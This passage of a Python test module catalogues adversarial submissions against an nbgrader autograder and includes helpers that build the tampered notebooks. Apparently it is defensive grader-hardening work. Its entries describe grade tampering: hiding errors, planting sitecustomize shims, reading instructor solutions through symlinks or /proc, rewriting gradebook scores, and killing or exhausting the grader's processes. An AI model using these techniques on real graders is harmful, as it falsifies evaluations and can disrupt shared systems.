           loses=("keras_same_max_pool",)),
    Attack("attack-input-transformer-pass", L05, "rebinding",
           "input_transformers_post turns every cell mentioning poolkit.checks into `pass`",
           answers={"keras_same_max_pool": keras_cell(INPUT_TRANSFORMER)},
           loses=("keras_same_max_pool",)),
    Attack("attack-hide-errors", L05, "rebinding",
           "set_custom_exc, sys.excepthook, class-level showtraceback and "
           "ExecutionResult.success patched so failing cells look passed",
           answers={"pool_nets": HIDE_ERRORS}, loses=("pool_nets",)),
    Attack("attack-dodge-import-join", L05, "numpy-only-dodge",
           "torch_to_keras asks torch (__import__(''.join(...)), map over its C functions) "
           "for torch's output size", answers={"torch_to_keras": DODGE_IMPORT_JOIN},
           loses=("torch_to_keras",)),
    Attack("attack-dodge-partial", L05, "numpy-only-dodge",
           "keras_same_max_pool2d is a functools.partial over poolkit.max_pool2d (in a "
           "tuple), pausing sys.setprofile",
           answers={"keras_same_max_pool": keras_cell(DODGE_PARTIAL)},
           loses=("keras_same_max_pool",)),
    Attack("attack-dodge-import-module", L05, "numpy-only-dodge",
           "keras_same_max_pool2d runs poolkit.max_pool2d via importlib.import_module in a "
           "_thread", answers={"keras_same_max_pool": keras_cell(DODGE_IMPORT_MODULE)},
           loses=("keras_same_max_pool",)),
    Attack("attack-dodge-ctypes", L05, "numpy-only-dodge",
           "torch_to_keras imports poolkit through ctypes.pythonapi and pauses the call "
           "monitor to get torch's output size", answers={"torch_to_keras": DODGE_CTYPES},
           loses=("torch_to_keras",)),
    Attack("attack-handed-in-ipykernel-launcher", L05, "handed-in-files",
           "an ipykernel_launcher.py (python -m puts the working folder first) that patches "
           "the shell class before starting the kernel",
           answers={"torch_to_keras": _zeros("torch_to_keras")},
           files={"ipykernel_launcher.py": LAUNCHER_SHIM}, loses=("torch_to_keras",)),
    Attack("attack-handed-in-sitecustomize", L05, "handed-in-files",
           "a sitecustomize.py next to the notebook that patches IPython's shell once it is "
           "imported", answers={"pool_nets": _zeros("pool_nets")},
           files={"sitecustomize.py": SITECUSTOMIZE_HANDED_IN}, loses=("pool_nets",)),
    Attack("attack-poolkit-path-insert", L05, "handed-in-files",
           "poolkit.__path__.insert(0, 'extras') in an answer, with a relaxed "
           "extras/checks.py handed in", answers={"keras_same_max_pool": keras_cell(PATH_INSERT)},
           files={"extras/checks.py": FAKE_CHECKS}, loses=("keras_same_max_pool",)),
    Attack("attack-read-solutions-dir", L05, "reading-secrets",
           "finds the course root (working folder, poolkit.__file__) and runs the "
           "instructor's torch_to_keras from solutions/",
           answers={"torch_to_keras": READ_SOLUTIONS}, loses=("torch_to_keras",)),
    Attack("attack-symlink-to-solution", L05, "reading-secrets",
           "hands in notes.txt -> ../../../solutions/<lesson>/<nb>.ipynb and runs the "
           "instructor's same_padding and keras_same_max_pool2d from it",
           answers={"keras_same_max_pool": SYMLINK_SOLUTION},
           files={"notes.txt": Symlink("../../../solutions/05-keras-and-pytorch/"
                                       "keras-and-pytorch.ipynb")},
           loses=("keras_same_max_pool",)),
    Attack("attack-history-in-feedback", L05, "reading-secrets",
           "same_padding prints the shell's history_manager's last input and In[-1] (the "
           "test cell) so hidden tests reach the feedback (correct answers)",
           answers={"keras_same_max_pool": PRINT_HISTORY_05}),
    Attack("attack-list-tmp-scratch", L05, "reading-secrets",
           "a cell lists /tmp, /var/tmp, /dev/shm and the parent folder and prints the start "
           "of notebooks and databases found there (correct answers)",
           added_cells=(("keras_same_max_pool", LIST_TMP),)),
    Attack("attack-gradebook-manual-scores", L05, "escape-and-poison",
           "opens the course's gradebook.db with sqlite3 and sets its own manual scores to "
           "full marks", answers={"pool_nets": GRADEBOOK_SCORES}, loses=("pool_nets",)),
    Attack("attack-sitecustomize-in-site-packages", L05, "escape-and-poison",
           "appends to site-packages/sitecustomize.py so that in `python -I` (the reference "
           "process) the instructor's answers agree with an identity 'same' pooling",
           answers={"keras_same_max_pool": SITECUSTOMIZE_IN_SITE},
           loses=("keras_same_max_pool",)),
    Attack("attack-poison-course-files", L05, "escape-and-poison",
           "appends to the course's nbgrader_config.py (no execution next time) and strips "
           "hidden tests from solutions/ (correct answers)",
           added_cells=(("pool_nets", POISON_COURSE),)),
    Attack("attack-kill-everyone", L05, "killing-the-grader",
           "torch_to_keras sends SIGKILL to -1 (every process it may signal)",
           answers={"torch_to_keras": KILL_EVERYONE}, loses=("torch_to_keras",)),
    Attack("attack-kill-proc-scan", L05, "killing-the-grader",
           "same_padding SIGKILLs every pid listed in /proc but its own (keras_same_max_pool2d "
           "written without same_padding)", answers={"keras_same_max_pool":
                                                     keras_cell(KILL_PROC_SCAN)},
           loses=("keras_same_max_pool",)),
    Attack("attack-os-exit-mid-call", L05, "killing-the-grader",
           "same_padding calls os._exit(3) (keras_same_max_pool2d written without "
           "same_padding)", answers={"keras_same_max_pool": keras_cell(OS_EXIT)},
           loses=("keras_same_max_pool",)),
    Attack("attack-unstoppable-loop", L05, "killing-the-grader",
           "keras_same_max_pool2d ignores SIGALRM/SIGINT/SIGTERM/SIGXCPU and loops forever",
           answers={"keras_same_max_pool": keras_cell(UNSTOPPABLE_LOOP)},
           loses=("keras_same_max_pool",)),
    Attack("attack-memory-bomb", L05, "killing-the-grader",
           "pool_nets allocates and touches up to 32 GiB",
           answers={"pool_nets": MEMORY_BOMB}, loses=("pool_nets",)),
    Attack("attack-markers-in-strings", L05, "feedback-crash",
           "a correct keras_same_max_pool2d with `### BEGIN SOLUTION` and "
           "`### BEGIN HIDDEN TESTS` inside strings and its docstring",
           answers={"keras_same_max_pool": keras_cell(MARKERS_IN_STRINGS)}),
    Attack("attack-nested-hidden-markers", L05, "feedback-crash",
           "a correct same_padding whose comments open `### BEGIN HIDDEN TESTS` twice",
           answers={"keras_same_max_pool": NESTED_HIDDEN}),
    Attack("attack-torch-tensor-result", L05, "other",
           "pool_nets computes the right outputs and returns them as torch tensors",
           answers={"pool_nets": TORCH_RESULT}, loses=("pool_nets",)),
    Attack("attack-pickled-npy", L05, "other",
           "np.save / np.lib.format.write_array patched so its (wrong) result leaves the "
           "kernel as a pickle that patches the checks wherever it is loaded",
           answers={"keras_same_max_pool": keras_cell(PICKLED_NPY)},
           loses=("keras_same_max_pool",)),
    Attack("attack-giant-int", L05, "other",
           "same_padding returns 5001-digit integers (keras_same_max_pool2d written without "
           "same_padding)", answers={"keras_same_max_pool": keras_cell(GIANT_INT)},
           loses=("keras_same_max_pool",)),
    Attack("attack-html-script-output", L05, "other",
           "a cell displays HTML with <script> and an onerror handler that calls the "
           "formgrader API (correct answers)",
           added_cells=(("keras_same_max_pool", HTML_OUTPUT),)),
    Attack("attack-proc-snoop", L05, "other",
           "a cell reads /proc/*/cmdline and environ, its mounts and its parent's open files "
           "(correct answers)", added_cells=(("keras_same_max_pool", PROC_SNOOP),)),
]


# ----------------------------------------------------------------------------------------
# Building submissions
# ----------------------------------------------------------------------------------------

_SOLUTION_MARKERS = ("### BEGIN SOLUTION", "### END SOLUTION")


def strip_solution_markers(source: str) -> str:
    """The solution as a student would write it (no ``### BEGIN/END SOLUTION`` lines)."""
    return "\n".join(line for line in source.splitlines()
                     if line.strip() not in _SOLUTION_MARKERS)


def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {}) or {}


def _grade_id(cell):
    return _meta(cell).get("grade_id")


def release_from_solution(solution_nb) -> nbformat.NotebookNode:
    """The student release of an instructor notebook, as ``nbgrader generate_assignment``
    writes it with this course's config: solution regions replaced by the code stub, written
    answers by the text stub, hidden test regions removed, outputs cleared, nbgrader's cell
    metadata (cell_type, checksum) and the deletable/editable flags added.  Prefer passing
    the real release to :func:`apply`; this is for when there is none."""
    from nbgrader.utils import compute_checksum

    nb = nbformat.from_dict(copy.deepcopy(dict(solution_nb)))
    for cell in nb.cells:
        meta = _meta(cell)
        if cell.cell_type == "code":
            cell.outputs = []
            cell.execution_count = None
        if not meta:
            continue
        if meta.get("solution"):
            if cell.cell_type == "code":
                cell.source = _stub_solution_regions(cell.source)
            else:
                cell.source = "YOUR ANSWER HERE"
        if meta.get("grade") and not meta.get("solution"):
            cell.source = _remove_hidden_tests(cell.source)
        meta = dict(meta)
        meta["cell_type"] = cell.cell_type
        cell.metadata["nbgrader"] = meta
        if meta.get("solution") or meta.get("grade") or meta.get("locked"):
            cell.metadata["deletable"] = False
        if meta.get("locked"):
            cell.metadata["editable"] = False
        if meta.get("solution") or meta.get("grade") or meta.get("locked"):
            meta["checksum"] = compute_checksum(cell)
        cell.metadata["nbgrader"] = dict(sorted(meta.items()))
        cell.metadata = nbformat.from_dict(dict(sorted(cell.metadata.items())))
    return nb


def _stub_solution_regions(source: str) -> str:
    out, inside = [], False
    for line in source.split("\n"):
        if "BEGIN SOLUTION" in line:
            inside = True
            indent = line[:len(line) - len(line.lstrip())]
            out += [indent + "# YOUR CODE HERE", indent + "raise NotImplementedError()"]
        elif "END SOLUTION" in line:
            inside = False
        elif not inside:
            out.append(line)
    return "\n".join(out)


def _remove_hidden_tests(source: str) -> str:
    out, inside = [], False
    for line in source.split("\n"):
        if "BEGIN HIDDEN TESTS" in line:
            inside = True
        elif "END HIDDEN TESTS" in line:
            inside = False
        elif not inside:
            out.append(line)
    return "\n".join(out)


def apply(attack: Attack, solution_nb, release_nb=None) -> nbformat.NotebookNode:
    """The notebook this attacker hands in.

    Starts from the release (``release_nb``, or one derived from the solution notebook),
    puts every exercise's instructor solution (marker lines removed) into its solution cell,
    then applies ``attack.answers`` (whole new sources of solution cells) and
    ``attack.added_cells`` (new plain code cells, each right after the cell with that
    grade_id, in the order given).  Neither argument is modified.
    """
    base = release_nb if release_nb is not None else release_from_solution(solution_nb)
    nb = nbformat.from_dict(copy.deepcopy(dict(base)))
    solutions = {_grade_id(c): strip_solution_markers(c.source) for c in solution_nb.cells
                 if c.cell_type == "code" and _meta(c).get("solution")}
    for cell in nb.cells:
        gid = _grade_id(cell)
        if cell.cell_type == "code" and _meta(cell).get("solution"):
            if gid not in solutions:
                raise KeyError(f"no instructor solution for {gid!r}")
            cell.source = solutions[gid]
    for gid, source in attack.answers.items():
        index = _index_of(nb, gid)
        if not _meta(nb.cells[index]).get("solution"):
            raise ValueError(f"{attack.name}: {gid!r} is not a solution cell")
        nb.cells[index].source = source
    last_after: dict[str, int] = {}
    for n, (after, source) in enumerate(attack.added_cells):
        index = last_after.get(after, _index_of(nb, after)) + 1
        digest = hashlib.sha1(f"{attack.name}/{n}".encode()).hexdigest()[:12]
        cell = nbformat.v4.new_code_cell(source=source, id=f"added-{n}-{digest}")
        nb.cells.insert(index, cell)
        for key, value in list(last_after.items()):
            if value >= index:
                last_after[key] = value + 1
        last_after[after] = index
    return nb


def _index_of(nb, grade_id: str) -> int:
    for i, cell in enumerate(nb.cells):
        if _grade_id(cell) == grade_id:
            return i
    raise KeyError(f"no cell with grade_id {grade_id!r}")


def write_files(attack: Attack, folder) -> list[str]:
    """Write ``attack.files`` into ``folder`` (next to the handed-in notebook); returns the
    relative paths written.  Symlinks are created as links and never followed."""
    folder = os.fspath(folder)
    written = []
    for rel, content in attack.files.items():
        parts = rel.replace("\\", "/").split("/")
        if os.path.isabs(rel) or ".." in parts or not all(parts):
            raise ValueError(f"{attack.name}: file path {rel!r} leaves the folder")
        path = os.path.join(folder, *parts)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if isinstance(content, Symlink):
            os.symlink(content.target, path)
        elif isinstance(content, bytes):
            with open(path, "wb") as f:
                f.write(content)
        else:
            with open(path, "w", encoding="utf-8") as f:
                f.write(content)
        written.append(rel)
    return written


def expected_points(attack: Attack, tests: dict) -> dict:
    """test-cell grade_id -> "zero" or "full" under honest grading; ``tests`` maps each
    exercise of the lesson to its test cells' grade_ids."""
    return {test: ("zero" if ex in attack.loses or test in attack.loses_tests else "full")
            for ex in EXERCISES[attack.lesson] for test in tests[ex]}


def __getattr__(name: str):
    """``ATTACKS``, the whole catalogue: this module's attacks, then those of
    :mod:`.against_the_grader` (which builds on this module, so it is imported on first
    use, whichever of the two was imported first)."""
    if name == "ATTACKS":
        if "ATTACKS" not in globals():
            from .against_the_grader import ATTACKS as against_the_grader

            globals()["ATTACKS"] = [*_FIRST_ROUND, *against_the_grader]
        return globals()["ATTACKS"]
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")


def by_name(name: str) -> Attack:
    for attack in __getattr__("ATTACKS"):
        if attack.name == name:
            return attack
    raise KeyError(name)
